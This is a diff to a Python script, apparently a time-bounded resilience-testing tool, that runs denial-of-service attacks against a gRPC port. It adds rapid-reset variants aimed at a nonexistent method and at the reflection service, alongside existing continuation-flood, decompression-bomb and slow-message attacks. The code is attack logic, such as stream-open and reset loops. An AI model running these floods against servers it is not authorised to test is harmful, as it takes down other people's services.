@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """Attacks on a server's gRPC port, each bounded in time: attack.py KIND HOST:PORT SECONDS.
 
-  rapid-reset   opens calls and resets them at once, on as many connections one after the other as are cut
+  rapid-reset   opens calls and resets them at once, on as many connections one after the other as are cut;
+                rapid-reset-nowhere, rapid-reset-reflection: of a method that there is not, and of reflection
   continuation  one request whose headers never end
   bomb          messages to the open health method that unpack to a thousand times their size
   slow-message  large messages to the open health method that never become whole
@@ -54,8 +55,8 @@ class Attack:
             self.cut += self.going_on()
             time.sleep(0.01)
 
-    def rapid_reset(self, sock):
-        headers = http2.call(HEALTH)
+    def rapid_reset(self, sock, method=HEALTH):
+        headers = http2.call(method)
         cancel = (8).to_bytes(4, "big")
         stream = 1
         while self.going_on():
@@ -73,6 +74,12 @@ class Attack:
         while sock.recv(1 << 16):
             pass
         self.cut += 1
+
+    def rapid_reset_nowhere(self, sock):
+        self.rapid_reset(sock, "/no.such.Service/Method")
+
+    def rapid_reset_reflection(self, sock):
+        self.rapid_reset(sock, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
 
     def continuation(self, sock):
         sock.sendall(http2.frame(http2.HEADERS, 0, 1, http2.call(HEALTH)))
